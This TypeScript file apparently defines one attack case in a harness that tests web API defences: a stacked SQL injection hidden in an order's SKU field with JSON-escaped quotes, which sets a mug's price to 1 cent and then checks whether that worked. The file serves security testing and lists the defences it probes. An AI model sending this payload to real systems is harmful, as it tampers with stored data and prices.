import type { Attack } from "../attack.ts";
import { list, summary } from "../exchange.ts";
import { orderTwin, post, search } from "./shared/requests.ts";

/** The quotes as escapes of JSON, past who reads the body as it was sent. */
const SKU = "\\u0027); UPDATE products SET price_cents=1 WHERE sku=\\u0027MUG-1\\u0027; COMMIT -- ";

export const sqliBody: Attack = {
  id: "sqli-body",
  title: "Change a price by the SKU of an order (stacked SQL injection, its quotes escaped in JSON)",
  owasp: ["SAS-1", "CWE-89"],
  paper: "IV.1.B",
  defences: [
    "edge:sql-injection",
    "gateway:model",
    "function:order-schema",
    "function:prepared-statement",
    "function:single-statement",
    "database:grants",
  ],
  operation: "placeOrder",
  target: "orders",
  run: async (context) => {
    const answer = await context.send(post(context, "alice", "/orders", `{"lines":[{"sku":"${SKU}","quantity":1}]}`));
    const proof = await context.send(search(context, "Mug"), "proof");
    const price = list(proof, "products").find((product) => product.sku === "MUG-1")?.priceCents;
    const effect = price === 1;
    return { effect, evidence: effect ? "the mug now costs 1 cent, for everybody" : summary(answer) };
  },
  twin: orderTwin,
};
